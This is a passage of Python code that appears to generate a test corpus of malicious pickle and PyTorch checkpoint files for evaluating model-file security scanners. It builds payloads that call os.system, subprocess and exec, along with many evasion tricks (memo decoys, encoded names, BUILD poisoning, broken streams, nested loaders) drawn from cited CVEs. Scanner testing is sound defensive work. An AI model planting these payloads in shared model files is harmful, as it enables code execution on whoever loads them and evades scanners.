        "newobj_partial.pkl",
        a.done(),
        "os.system",
        "NEWOBJ builds functools.partial(os.system, cmd) via partial.__new__; the REDUCE "
        "target is the partial *object*, not a global.",
        alt=("functools.partial", "posix.system"),
    )
    a = Asm(4)
    a.glob("functools", "partial").tuple_of([frag(4, lambda b: b.glob("subprocess", "run"))])
    a.val({"args": ["sh", "-c", SHELL_CMD]}).newobj_ex().empty_tuple().reduce()
    r.add(
        "newobj_ex_partial_kwargs",
        "PKL-CALL-NEWOBJ-EX",
        [],
        "newobj_ex_partial.pkl",
        a.done(),
        "subprocess.run",
        "NEWOBJ_EX passes keyword arguments: partial(subprocess.run, args=[...]) then called "
        "with (); kwargs-carrying calls are invisible to REDUCE-only analyses.",
        alt=("functools.partial",),
    )
    # BUILD calls inst.__setstate__(state) when present; an earlier BUILD can plant it in __dict__.
    a = Asm(4)
    a.glob("types", "SimpleNamespace").empty_tuple().newobj()
    a.empty_dict().short_binunicode("__setstate__").glob("os", "system").setitem().build()
    a.short_binunicode(SHELL_CMD).build()
    r.add(
        "build_setstate_injection",
        "PKL-BUILD-SETSTATE",
        ["pickle BUILD semantics (CTF folklore)"],
        "build_setstate_injection.pkl",
        a.done(),
        "os.system",
        "First BUILD stores os.system as instance attribute __setstate__; second BUILD calls it with the "
        "state (the command). No REDUCE/OBJ/INST opcode carries the call.",
        alt=("posix.system",),
    )


# ---------------------------------------------------------------------------------------------
# 3. STACK_GLOBAL operands from the memo / computed at run time
# ---------------------------------------------------------------------------------------------


def _stack_global(r: _Reg) -> None:
    t = "PKL-STACK-GLOBAL-MEMO"
    a = Asm(4)
    a.short_binunicode("os").memoize().short_binunicode("system").memoize().pop().pop()
    a.short_binunicode("torch._utils").memoize().short_binunicode("_rebuild_tensor_v2").memoize().pop().pop()
    a.binget(0).binget(1).stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_memo_binget",
        t,
        ["picklescan issue #22", "modelscan issue #85"],
        "stack_global_memo_binget.pkl",
        a.done(),
        "os.system",
        "Operands come from the memo via BINGET while decoy allowlisted strings sit right before "
        "STACK_GLOBAL "
        "in the opcode stream; 'look at the two previous opcodes' scanners report the decoy.",
    )
    a = Asm(4)
    a.short_binunicode("os").long_binput(70000).pop().short_binunicode("system").long_binput(70001).pop()
    a.long_binget(70000).long_binget(70001).stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_memo_long_binget",
        t,
        [],
        "stack_global_memo_long_binget.pkl",
        a.done(),
        "os.system",
        "LONG_BINPUT/LONG_BINGET with sparse 32-bit memo keys (> 65535).",
    )
    a = Asm(0)
    a.unicode("os").put(2).pop().unicode("system").put(3).pop()
    a.unicode("torch").put(0).pop().unicode("LongStorage").put(1).pop()
    a.get(2).get(3).stack_global().mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "stack_global_memo_text_get",
        t,
        ["picklescan issue #22 (ImaginaryCTF 'Safe Pickle')"],
        "stack_global_memo_text_get.pkl",
        a.done(),
        "os.system",
        "Protocol-0 PUT/GET text memo feeding STACK_GLOBAL, with allowlisted torch.LongStorage decoys.",
    )
    a = Asm(4)
    a.short_binstring("os").binput(0).short_binstring("system").binput(1).pop().pop()
    a.short_binunicode("torch._utils").memoize().short_binunicode("_rebuild_tensor_v2").memoize().pop().pop()
    a.binget(0).binget(1).stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_memo_put_memoize_mix",
        t,
        ["picklescan issue #14 (Doyensec)"],
        "stack_global_memo_mix.pkl",
        a.done(),
        "os.system",
        "BINPUT and MEMOIZE mixed: MEMOIZE uses len(memo), so a scanner that counts MEMOIZEs from zero "
        "maps index 0/1 to the decoys instead of 'os'/'system'.",
    )
    a = Asm(4)
    a.short_binunicode("collections").binput(0).pop().short_binunicode("os").binput(0).pop()
    a.short_binunicode("system").binput(1).pop()
    a.binget(0).binget(1).stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_memo_overwrite",
        t,
        [],
        "stack_global_memo_overwrite.pkl",
        a.done(),
        "os.system",
        "Memo slot 0 is written twice; first-write-wins scanners resolve 'collections'.",
    )
    a = Asm(4)
    a.short_binunicode("os").dup().pop().short_binunicode("system").stack_global()
    a.short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_dup_pop",
        t,
        [],
        "stack_global_dup_pop.pkl",
        a.done(),
        "os.system",
        "DUP/POP between the operands: the module string is not the opcode immediately preceding the name.",
    )
    a = Asm(4)
    a.short_binunicode("os").mark().short_binunicode("torch").short_binunicode("FloatStorage").pop_mark()
    a.short_binunicode("system").stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_pop_mark_decoy",
        t,
        [],
        "stack_global_pop_mark_decoy.pkl",
        a.done(),
        "os.system",
        "Decoy strings inside a MARK that POP_MARK discards, between the two real operands.",
    )
    a = Asm(4)
    a.glob("os", "system").short_binunicode(SHELL_CMD).tuple1().reduce().pop()
    a.short_binunicode("os").memoize().binget(3).binget(0).stack_global().pop().none()
    r.add(
        "stack_global_keyerror_after_payload",
        t,
        ["picklescan PR #52 (keyerror-exploit)"],
        "keyerror_after_payload.pkl",
        a.done(),
        "os.system",
        "Payload runs first; a later STACK_GLOBAL reads an undefined memo key and load() raises. Scanners "
        "that abort on the KeyError drop what they already saw.",
    )
    a = Asm(4)
    a.glob("os", "system").short_binunicode(SHELL_CMD).tuple1().reduce().pop()
    a.int_(42).memoize().short_binunicode("os").memoize().binget(2).binget(3).stack_global().pop().none()
    r.add(
        "stack_global_type_confusion_after_payload",
        t,
        ["picklescan PR #52 (type-confusion-exploit)"],
        "type_confusion_after_payload.pkl",
        a.done(),
        "os.system",
        "Non-string STACK_GLOBAL operand (int) after the payload; must not crash the scanner.",
    )

    t = "PKL-STACK-GLOBAL-COMPUTED"
    # Operand is the *result of a call*: codecs.decode('flfgrz', 'rot13') == 'system'.
    a = Asm(4)
    a.short_binunicode("os").call("codecs", "decode", "flfgrz", "rot13").stack_global()
    a.short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_name_from_rot13_call",
        t,
        [HIDE_SEEK],
        "stack_global_rot13.pkl",
        a.done(),
        "os.system",
        "STACK_GLOBAL name is the return value of codecs.decode(...,'rot13'): no 'system' string exists in "
        "the file. A scanner cannot resolve it statically and must flag an unresolvable STACK_GLOBAL.",
        alt=("<unresolved STACK_GLOBAL>", "codecs.decode"),
    )
    a2 = Asm(4)
    a2.glob("builtins", "bytes.decode").tuple_of([frag(4, lambda b: b.call("base64", "b64decode", "b3M="))])
    a2.reduce()  # -> 'os'
    a2.glob("builtins", "bytes.decode").tuple_of([frag(4, lambda b: b.call("base64", "b64decode", "c3lzdGVt"))])
    a2.reduce()  # -> 'system'
    a2.stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_both_from_base64",
        t,
        ["modelscan issue #331"],
        "stack_global_base64.pkl",
        a2.done(),
        "os.system",
        "Both operands are bytes.decode(base64.b64decode(...)) results.",
        alt=("<unresolved STACK_GLOBAL>",),
    )
    a = Asm(4)
    a.glob("builtins", "str.join").short_binunicode("").val(["o", "s"]).tuple2().reduce()
    a.glob("builtins", "str.join").short_binunicode("").val(["sys", "tem"]).tuple2().reduce()
    a.stack_global().short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_str_join",
        t,
        ["modelscan issue #331"],
        "stack_global_str_join.pkl",
        a.done(),
        "os.system",
        "Operands assembled by ''.join(list) through the dotted global builtins.str.join.",
        alt=("<unresolved STACK_GLOBAL>",),
    )
    # modelscan #85: attributes planted with BUILD on an allowlisted object, then read back.
    a = Asm(4)
    a.glob("collections", "OrderedDict").pop()  # noise
    a.glob("collections", "Counter").none().val({"a": "os", "b": "system"}).tuple2().build().pop()
    a.glob("collections", "Counter.a").glob("collections", "Counter.b").stack_global()
    a.short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "stack_global_from_build_attrs",
        t,
        ["modelscan issue #85"],
        "stack_global_build_attrs.pkl",
        a.done(),
        "os.system",
        "BUILD with (None, slotstate) does setattr(collections.Counter, 'a', 'os') etc.; the "
        "operands are then fetched as the dotted globals Counter.a / Counter.b.",
        alt=("<unresolved STACK_GLOBAL>", "collections.Counter.a"),
    )


def _dotted(r: _Reg) -> None:
    t = "PKL-DOTTED-ATTR-PATH"
    r.add(
        "dotted_pathlib_os_system",
        t,
        [FK + "GHSA-5j3x-jp52-966f"],
        "dotted_pathlib_os_system.pkl",
        call_pickle("pathlib", "os.system", SHELL_CMD, proto=4),
        "os.system",
        "Protocol >= 4 resolves dotted names with getattr walks: pathlib -> os -> system. The module field "
        "is a harmless stdlib module.",
        alt=("pathlib.os.system",),
    )
    r.add(
        "dotted_posixpath_os_system",
        t,
        [],
        "dotted_posixpath.pkl",
        call_pickle("posixpath", "os.system", SHELL_CMD, proto=5),
        "os.system",
        "os.path (posixpath) re-exports os.",
        alt=("posixpath.os.system",),
    )
    r.add(
        "dotted_asyncio_subprocess_popen",
        t,
        ["CVE-2025-10157"],
        "dotted_asyncio_subprocess.pkl",
        call_pickle("asyncio.subprocess", "subprocess.Popen", ["sh", "-c", SHELL_CMD], proto=4),
        "subprocess.Popen",
        "Submodule + dotted path into a re-exported module.",
        alt=("asyncio.subprocess.subprocess.Popen",),
    )
    a = Asm(4)
    a.glob("builtins", "dict.get").tuple_of([frag(4, lambda b: b.glob("collections", "__builtins__")), "exec"])
    a.reduce().short_binunicode(PY_SRC).tuple1().reduce()
    r.add(
        "dotted_module_builtins_dict",
        t,
        ["modelscan issue #89"],
        "dotted_module_builtins_dict.pkl",
        a.done(),
        "builtins.exec",
        "Every imported module has __builtins__ (the builtins dict); dict.get(it, 'exec') "
        "returns exec without naming builtins.exec.",
        alt=("collections.__builtins__", "builtins.dict.get"),
    )
    a = Asm(4)
    a.glob("collections", "Counter").none().glob("collections", "_sys.modules").tuple2().build().pop()
    a.glob("collections", "Counter.os.system").short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "dotted_after_build_sys_modules",
        t,
        ["modelscan issue #89 (2nd PoC)"],
        "dotted_build_sys_modules.pkl",
        a.done(),
        "os.system",
        "BUILD(Counter, (None, sys.modules)) copies every loaded module onto the class; "
        "Counter.os.system then resolves.",
        alt=("collections._sys.modules", "collections.Counter.os.system"),
    )
    a = Asm(4)
    a.glob("builtins", "object.__getattribute__").tuple_of(
        [frag(4, lambda b: b.glob("pathlib", "os")), "system"]
    ).reduce()
    a.short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "dotted_object_getattribute",
        t,
        [],
        "dotted_object_getattribute.pkl",
        a.done(),
        "os.system",
        "object.__getattribute__(module, 'system'): a getattr equivalent that blocklists of 'getattr' miss; "
        "the module object itself comes from the dotted global pathlib.os.",
        alt=("builtins.object.__getattribute__", "pathlib.os"),
    )
    # numpy.size(a, axis) == a.shape[axis]: modelscan issue #330.
    a = Asm(4)
    a.glob("numpy", "size").memoize()  # memo 0/1 hold the operand strings, 2 = numpy.size
    a.glob("numpy", "__builtins__").memoize()  # memo 5 = the builtins dict
    a.binget(2).empty_dict().empty_dict().short_binunicode("shape").binget(5).setitem().tuple2().build()
    a.binget(2).binget(2).short_binunicode("exec").tuple2().reduce()
    a.short_binunicode(PY_SRC).tuple1().reduce()
    r.add(
        "numpy_size_builtins_getitem",
        t,
        ["modelscan issue #330"],
        "numpy_size_builtins.pkl",
        a.done(),
        "builtins.exec",
        "BUILD sets numpy.size.shape = numpy.__builtins__; numpy.size(numpy.size, 'exec') "
        "is shape['exec'] -> exec. Every global is from numpy. Works with numpy < 2.4; numpy 2.4 normalises "
        "axis to an int first, so on this machine the load fails after the BUILD.",
        alt=("numpy.__builtins__",),
        loaders=(),
    )


# ---------------------------------------------------------------------------------------------
# 4. Extension registry, BUILD poisoning, string-escape divergence
# ---------------------------------------------------------------------------------------------


def _ext(r: _Reg) -> None:
    t = "PKL-EXT-REGISTRY"
    refs = ["modelaudit PR #623 (EXT opcode bypass)", "copyreg extension registry"]
    for code, tag in ((0xF0, "ext1"), (0xBEEF, "ext2"), (0x1234567, "ext4")):
        a = Asm(2)
        a.call("copyreg", "add_extension", "os", "system", code).pop()
        a.ext(code).tuple_of([SHELL_CMD]).reduce()
        r.add(
            f"{tag}_self_registered",
            t,
            refs,
            f"{tag}_self_registered.pkl",
            a.done(),
            "os.system",
            f"The pickle first calls copyreg.add_extension('os','system',{code:#x}) (a benign-looking stdlib "
            f"call), then {tag.upper()} resolves the code through the registry it just filled: the target "
            "never appears as GLOBAL/STACK_GLOBAL operands near the call.",
            alt=("copyreg.add_extension",),
        )
    a = Asm(2)
    a.ext(0xF1).tuple_of([SHELL_CMD]).reduce()
    r.add(
        "ext1_unregistered",
        t,
        refs,
        "ext1_unregistered.pkl",
        a.done(),
        "<EXT1 0xf1>",
        "EXT1 with nothing registered: stock CPython raises 'unregistered extension code'. It only runs in "
        "a host process that registered 0xf1 itself (no stdlib/torch/numpy module does), so a scanner "
        "should report an unresolvable extension call rather than 'clean'.",
        loaders=(),
    )


def _build_poison(r: _Reg) -> None:
    t = "PKL-BUILD-STATE"
    # Monkeypatch a module so a later *allowlisted* global resolves to os.system.
    a = Asm(4)
    a.glob("typing", "collections")  # the collections *module* object (plain attribute of typing)
    a.empty_dict().short_binunicode("OrderedDict").glob("pathlib", "os.system").setitem().build().pop()
    a.glob("collections", "OrderedDict").short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "build_poisons_allowlisted_global",
        t,
        ["pickle BUILD on module objects"],
        "build_poisons_allowlisted_global.pkl",
        a.done(),
        "os.system",
        "BUILD on the collections module rewrites collections.OrderedDict = os.system; the final call "
        "looks like the universally allowlisted collections.OrderedDict. The poison persists in the "
        "loading process for every later load.",
        alt=("pathlib.os.system", "typing.collections"),
    )
    a = Asm(2)
    a.global_("argparse", "Namespace").empty_tuple().newobj()
    a.empty_dict().binunicode("__reduce_ex__").global_("os", "system").setitem().build()
    r.add(
        "build_sets_instance_dunder",
        t,
        [],
        "build_sets_instance_dunder.pkl",
        a.done(),
        "os.system",
        "BUILD writes a dunder name into an instance __dict__ (no call here): a scanner should treat dunder "
        "keys in BUILD state as suspicious. Included to pin that os.system is still reported.",
        loaders=(),
    )


def _string_escapes(r: _Reg) -> None:
    t = "PKL-STRING-ESCAPE"
    a = Asm(0)
    a.unicode_raw(b"o\\u0073").unicode_raw(b"\\u0073ystem").stack_global()
    a.mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "unicode_escape_operands",
        t,
        [],
        "unicode_escape_operands.pkl",
        a.done(),
        "os.system",
        "UNICODE ('V') operands spelled with raw-unicode-escape sequences: the file never contains the bytes "
        "'os'/'system' next to each other, but pickle decodes them to 'os' and 'system'.",
    )
    a = Asm(0)
    a.string_raw(b"'\\x6fs'").string_raw(b"'sys\\x74em'").stack_global()
    a.mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "string_escape_operands",
        t,
        [],
        "string_escape_operands.pkl",
        a.done(),
        "os.system",
        "STRING ('S') operands with \\x escapes (escape_decode), then decoded as ASCII str.",
    )
    a = Asm(0)
    a.string_raw(b'"os"').string_raw(b'"system"').stack_global()
    a.mark().unicode(SHELL_CMD).tuple_().reduce()
    r.add(
        "string_double_quoted_operands",
        t,
        [],
        "string_double_quoted.pkl",
        a.done(),
        "os.system",
        "STRING operands in double quotes (both quote styles are legal).",
    )


# ---------------------------------------------------------------------------------------------
# 5. Stream-level tricks: broken streams, several pickles, framing, PROTO placement
# ---------------------------------------------------------------------------------------------


def _stream(r: _Reg) -> None:
    t = "PKL-BROKEN-STREAM"
    pay = Asm(2).call("os", "system", SHELL_CMD).code()
    r.add(
        "broken_invalid_opcode_after_reduce",
        t,
        [NULLIFAI, PS + "(broken_model.pkl)"],
        "broken_invalid_opcode.pkl",
        b"\x80\x02" + pay + b"\xff\xfe garbage",
        "os.system",
        "REDUCE executes, then an undefined opcode (0xff) makes load() raise: nullifAI's 'broken pickle'. "
        "Scanners that discard results on parse errors report nothing.",
    )
    r.add(
        "broken_truncated_no_stop",
        t,
        [NULLIFAI],
        "broken_truncated.pkl",
        b"\x80\x02" + pay,
        "os.system",
        "Stream ends right after REDUCE: no STOP opcode.",
    )
    a = Asm(0)
    a.global_("builtins", "exec").mark().raw(b"X")
    body = a.code()
    # nullifAI shape: exec(...) R, then a BINUNICODE whose 4-byte length runs past EOF.
    a2 = Asm(0).global_("builtins", "exec").mark().binunicode(PY_SRC).tuple_().reduce().raw(b"X.")
    r.add(
        "broken_binunicode_overrun",
        t,
        [NULLIFAI, "picklescan tests broken_model.pkl"],
        "broken_binunicode_overrun.pkl",
        a2.code(),
        "builtins.exec",
        "exec(...) REDUCE followed by a BINUNICODE whose length field overruns the file.",
    )
    del body
    r.add(
        "broken_stack_underflow_after_payload",
        t,
        [],
        "broken_underflow.pkl",
        b"\x80\x02" + pay + b"0000.",
        "os.system",
        "POP past the bottom of the stack after the payload.",
    )
    r.add(
        "broken_mark_missing_after_payload",
        t,
        [],
        "broken_mark_missing.pkl",
        b"\x80\x02" + pay + b"0t.",
        "os.system",
        "TUPLE without MARK after the payload (UnpicklingError).",
    )
    r.add(
        "broken_trailing_junk_after_stop",
        t,
        [],
        "broken_trailing_junk.pkl",
        sh_pickle(2) + b"\x00\x01\x02 not a pickle \xff",
        "os.system",
        "Valid pickle followed by junk: pickle.load stops at STOP; whole-file parsers may error out.",
    )

    t = "PKL-MULTI-STREAM"
    r.add(
        "multi_stream_payload_second",
        t,
        ["picklescan tests malicious6", HIDE_SEEK],
        "multi_stream_second.pkl",
        BENIGN + sh_pickle(2),
        "os.system",
        "Two concatenated pickles; the first is benign. pickle.load() of the file runs only the first, but "
        "any loader that calls load() repeatedly (torch legacy format, custom readers) runs the second.",
        loaders=("pickle-multi",),
    )
    r.add(
        "multi_stream_payload_fifth",
        t,
        [],
        "multi_stream_fifth.pkl",
        BENIGN * 4 + sh_pickle(4),
        "os.system",
        "Payload in the 5th pickle of the stream; scanners that stop after N pickles miss it.",
        loaders=("pickle-multi",),
    )
    r.add(
        "multi_stream_junk_between",
        t,
        [],
        "multi_stream_junk_between.pkl",
        BENIGN + b"\n\n\t\t" + sh_pickle(2),
        "os.system",
        "Whitespace bytes between pickles: a reader of a second pickle would fail on '\\n' ... unless it "
        "skips it; scanners must not assume only back-to-back pickles.",
        loaders=(),
    )

    t = "PKL-FRAME-STRADDLE"
    hidden = b"cos\nsystem\nV" + SHELL_CMD.encode() + b"\n\x85R"
    tail = (hidden + b"(").ljust(261, b"N")
    payload = (
        b"\x80\x05N"
        + b"V"
        + b"a" * (8192 * 16 - 17)
        + b"\n0("  # push the frame past the read buffer
        + b"\x95"
        + struct.pack("<Q", 2)  # FRAME claims 2 bytes ...
        + b"B"
        + struct.pack("<I", 2 + len(tail))
        + b"\x00\x00"  # ... BINBYTES claims 263
        + tail
        + b"1."
    )
    r.add(
        "frame_boundary_straddle",
        t,
        ["cpython issue #154848", "fickling test_frame_boundary_divergence"],
        "frame_boundary_straddle.pkl",
        payload,
        "os.system",
        "A FRAME declares 2 bytes but the BINBYTES inside it declares more: pickle.loads(bytes) and "
        "pickletools read the hidden GLOBAL/REDUCE as bytes data, while pickle.load(file) on some CPython "
        "versions refills its buffer and interprets them as opcodes (verified: CPython 3.11.7 pickle.load "
        "on a "
        "file runs it, pickle.loads does not). Scanners must flag frame violations.",
    )

    t = "PKL-PROTO-PLACEMENT"
    a = Asm(2)
    a.raw(b"\x80\x02").val(1).pop().raw(b"\x80\x04").glob("pathlib", "os.system")
    a.short_binunicode(SHELL_CMD).tuple1().reduce()
    r.add(
        "proto_upgrade_midstream",
        t,
        [],
        "proto_upgrade_midstream.pkl",
        a.code() + b".",
        "os.system",
        "Starts as protocol 2 (where dotted names are not resolved) and switches to PROTO 4 mid-stream, "
        "enabling the dotted path pathlib.os.system.",
        alt=("pathlib.os.system",),
    )
    a = Asm(0)
    a.mark().global_("commands", "getoutput").unicode(SHELL_CMD).obj()
    r.add(
        "no_proto_starts_with_mark",
        t,
        ["CVE-2025-10155", "modelaudit test_cve_2025_10155"],
        "no_proto_mark_first.bin",
        a.done(),
        "subprocess.getoutput",
        "No PROTO opcode, first byte is MARK '(' and the extension is .bin: magic-byte sniffers that want "
        "\\x80 never treat it as a pickle.",
        alt=("commands.getoutput",),
        loaders=("pickle", "torch"),
    )


# ---------------------------------------------------------------------------------------------
# 6. Nested deserialisation (a pickle that unpickles another payload)
# ---------------------------------------------------------------------------------------------


def _bytesio(proto: int, data: bytes) -> Raw:
    return frag(proto, lambda a: a.call("io", "BytesIO", data))


def _nested(r: _Reg) -> None:
    t = "PKL-NESTED"
    inner = sh_pickle(3)
    alt_inner = ("os.system",)

    def nest(
        name: str,
        module: str,
        attr: str,
        args: Sequence[object],
        note: str,
        refs: Sequence[str] = (),
        proto: int = 4,
        loaders: Sequence[str] = ("pickle",),
        live: bool = True,
    ) -> None:
        r.add(
            name,
            t,
            refs,
            f"{name}.pkl",
            call_pickle(module, attr, *args, proto=proto),
            f"{module}.{attr}",
            note,
            alt=alt_inner,
            loaders=loaders,
            live=live,
        )

    nest(
        "nested_pickle_loads",
        "pickle",
        "loads",
        [inner],
        "pickle.loads(bytes) on an embedded pickle; a correct scanner flags the loader and recursively scans "
        "the BINBYTES argument.",
        ["modelscan issue #267", PS + "GHSA-84r2-jw7c-4r5q"],
    )
    nest(
        "nested_cpickle_c_loads",
        "_pickle",
        "loads",
        [inner],
        "C accelerator module spelling _pickle.loads.",
        ["picklescan issue #24"],
    )
    nest(
        "nested_forkingpickler_loads",
        "multiprocessing.reduction",
        "ForkingPickler.loads",
        [inner],
        "ForkingPickler.loads is pickle.loads re-exported under multiprocessing (dotted class attribute).",
    )
    a = Asm(4)
    a.glob("_pickle", "Unpickler.load").tuple_of(
        [frag(4, lambda b: b.glob("_pickle", "Unpickler").tuple_of([_bytesio(4, inner)]).reduce())]
    ).reduce()
    r.add(
        "nested_unpickler_load_method",
        t,
        [],
        "nested_unpickler_load.pkl",
        a.done(),
        "_pickle.Unpickler",
        "Unpickler(BytesIO(inner)).load() through the unbound method Unpickler.load (dotted global).",
        alt=("_pickle.Unpickler.load", "io.BytesIO", "os.system"),
    )
    a = Asm(4)
    a.glob("pickle", "loads").tuple_of(
        [frag(4, lambda b: b.call("base64", "b64decode", base64.b64encode(inner).decode()))]
    ).reduce()
    r.add(
        "nested_base64_loads",
        t,
        ["modelaudit nested_pickle_base64"],
        "nested_base64_loads.pkl",
        a.done(),
        "pickle.loads",
        "pickle.loads(base64.b64decode('...')): the inner opcodes are base64 text.",
        alt=("base64.b64decode", "os.system"),
    )
    a = Asm(4)
    a.glob("pickle", "loads").tuple_of([frag(4, lambda b: b.call("zlib", "decompress", zlib.compress(inner, 9)))])
    a.reduce()
    r.add(
        "nested_zlib_loads",
        t,
        [],
        "nested_zlib_loads.pkl",
        a.done(),
        "pickle.loads",
        "pickle.loads(zlib.decompress(...)): inner pickle is compressed; only decompress-and-rescan finds it.",
        alt=("zlib.decompress", "os.system"),
    )
    a = Asm(4)
    a.glob("pickle", "loads").tuple_of([frag(4, lambda b: b.call("builtins", "bytes.fromhex", inner.hex()))])
    a.reduce()
    r.add(
        "nested_hex_loads",
        t,
        ["modelaudit nested_pickle_hex"],
        "nested_hex_loads.pkl",
        a.done(),
        "pickle.loads",
        "pickle.loads(bytes.fromhex('...')).",
        alt=("builtins.bytes.fromhex", "os.system"),
    )
    a = Asm(4)
    a.glob("torch", "load").tuple_of(
        [_bytesio(4, inner), None, frag(4, lambda b: b.glob("torch.serialization", "pickle"))]
    ).reduce()
    r.add(
        "nested_torch_load_pickle_module",
        t,
        [HIDE_SEEK + " (loading paths)"],
        "nested_torch_load.pkl",
        a.done(),
        "torch.load",
        "torch.load(BytesIO(inner), None, <pickle module>): passing pickle_module makes "
        "weights_only default to False in torch >= 2.6; the module object is the attribute "
        "torch.serialization.pickle.",
        alt=("torch.serialization.pickle", "os.system"),
    )
    nest(
        "nested_torch_storage_load_from_bytes",
        "torch.storage",
        "_load_from_bytes",
        [inner],
        "torch.storage._load_from_bytes(b) == torch.load(BytesIO(b), weights_only=False): an allowlist that "
        "trusts 'torch.*' executes the inner pickle.",
        ["fickling UnsafeImportsML", PS + "GHSA-h3qp-7fh3-f8h4"],
    )
    nest(
        "nested_torch_basichandlers",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ["pickle", inner],
        "basichandlers('pickle', data) -> pickle.loads(data).",
        [PS + "GHSA-h3qp-7fh3-f8h4"],
    )
    nest(
        "nested_torch_config_load_config",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        [{}, inner],
        "ConfigModule.load_config(self, bytes) pickle.loads the bytes before touching self.",
        [PS + "GHSA-vv6j-3g6g-2pvj"],
    )
    a = Asm(4)
    a.glob("numpy", "load").tuple_of([_bytesio(4, inner), None, True]).reduce()
    r.add(
        "nested_numpy_load_allow_pickle",
        t,
        [HIDE_SEEK + " (loading paths)"],
        "nested_numpy_load.pkl",
        a.done(),
        "numpy.load",
        "numpy.load(BytesIO(inner), None, True): allow_pickle passed positionally; numpy "
        "falls back to pickle.load for non-.npy input.",
        alt=alt_inner,
    )
    a = Asm(4)
    a.glob("joblib", "load").tuple_of([_bytesio(4, inner)]).reduce()
    r.add(
        "nested_joblib_load",
        t,
        ["modelaudit: joblib.load loader trampoline"],
        "nested_joblib_load.pkl",
        a.done(),
        "joblib.load",
        "joblib.load(BytesIO(inner)).",
        alt=alt_inner,
    )
    nest("nested_dill_loads", "dill", "loads", [inner], "dill.loads(bytes).", ["modelaudit dill tests"])
    nest("nested_cloudpickle_loads", "cloudpickle", "loads", [inner], "cloudpickle.loads is pickle.loads.")
    a = Asm(4)
    a.glob("pandas", "read_pickle").tuple_of([_bytesio(4, inner)]).reduce()
    r.add(
        "nested_pandas_read_pickle",
        t,
        [HIDE_SEEK + " (loading paths)"],
        "nested_pandas_read_pickle.pkl",
        a.done(),
        "pandas.read_pickle",
        "pandas.read_pickle(BytesIO(inner)).",
        alt=alt_inner,
    )
    nest(
        "nested_lib2to3_grammar_loads",
        "lib2to3.pgen2.grammar",
        "Grammar.loads",
        [_ns(4, {}), inner],
        "Grammar.loads(self, pkl) = self.__dict__.update(pickle.loads(pkl)); self is a SimpleNamespace.",
        [PS + "GHSA-f54q-57x4-jg88"],
    )
    # marshal + FunctionType: code object smuggling (fickling GHSA-565g-hwwr-4pp3). Version-specific bytes.
    code = marshal.dumps(compile(PY_SRC, "<mlvet>", "exec"))
    a = Asm(4)
    a.glob("types", "FunctionType").tuple_of(
        [frag(4, lambda b: b.call("marshal", "loads", code)), {}]
    ).reduce().empty_tuple().reduce()
    r.add(
        "nested_marshal_function",
        t,
        [FK + "GHSA-565g-hwwr-4pp3", PS + "GHSA-9m3x-qqw2-h32h"],
        "nested_marshal_function.pkl",
        a.done(),
        "marshal.loads",
        "types.FunctionType(marshal.loads(code), {})(): arbitrary bytecode. The marshal blob is specific to "
        f"CPython {sys.version_info[0]}.{sys.version_info[1]} (bytes differ across minor versions).",
        alt=("types.FunctionType",),
    )
    # CVE-2025-1889 shape: inner malicious pickle stored under a .json member, loaded with pickle_file=.
    inner_zip = build_zip(torch_entries(BENIGN, extra=[ZEntry("archive/config.json", sh_pickle(2))]))
    a = Asm(4)
    a.glob("functools", "partial").tuple_of([frag(4, lambda b: b.glob("torch", "load")), _bytesio(4, inner_zip)])
    a.val({"weights_only": False, "pickle_file": "config.json"}).newobj_ex().empty_tuple().reduce()
    r.add(
        "nested_torch_load_pickle_file_json",
        t,
        ["CVE-2025-1889", PS + "GHSA-769v-p64c-89pr", "picklescan tests malicious19"],
        "nested_torch_load_json_member.pkl",
        a.done(),
        "torch.load",
        "partial(torch.load, BytesIO(zip), weights_only=False, pickle_file='config.json')(): the payload is "
        "a zip member with a .json extension that only this call treats as a pickle.",
        alt=("functools.partial", "os.system"),
    )


# ---------------------------------------------------------------------------------------------
# 7. PyTorch containers: zip checkpoints, ZIP parser differentials, legacy formats
# ---------------------------------------------------------------------------------------------

_ZREF_CRC = ["CVE-2025-10156", "JFrog 2025-12 picklescan zero-days", HIDE_SEEK + " (EOP)"]
_ZREF_FLAG = ["CVE-2025-1945", PS + "GHSA-w8jq-xcqf-f792", "Sonatype 2025-03"]
_ZREF_NAME = ["CVE-2025-1944", PS + "GHSA-7q5r-7gvp-wc82", "Sonatype 2025-03"]


def _torch(r: _Reg) -> None:
    pay = sh_pickle(2)
    r.add(
        "torch_zip_data_pkl",
        "TORCH-ZIP-DATA-PKL",
        ["picklescan tests malicious1.zip"],
        "torch_zip_data_pkl.pt",
        torch_zip(pay),
        "os.system",
        "Hand-built torch.save zip (archive/data.pkl, version, byteorder) with the payload as data.pkl.",
        loaders=("torch",),
    )
    r.add(
        "torch_zip_custom_prefix",
        "TORCH-ZIP-DATA-PKL",
        [],
        "torch_zip_custom_prefix.pth",
        build_zip(torch_entries(pay, archive="resnet50_weights_v2")),
        "os.system",
        "Top-level directory is not 'archive': torch derives it from the first record name.",
        loaders=("torch",),
    )
    r.add(
        "torch_zip_other_pkl_member",
        "TORCH-ZIP-OTHER-MEMBER",
        ["CVE-2025-1889", PS + "GHSA-769v-p64c-89pr"],
        "torch_zip_other_member.pt",
        build_zip(torch_entries(BENIGN, extra=[ZEntry("archive/extra/tokenizer.pkl", pay)])),
        "os.system",
        "Benign data.pkl; the payload is another .pkl member that torch.load only reads with "
        "pickle_file='extra/tokenizer.pkl' (or a second loader does). Scanners must scan every member.",
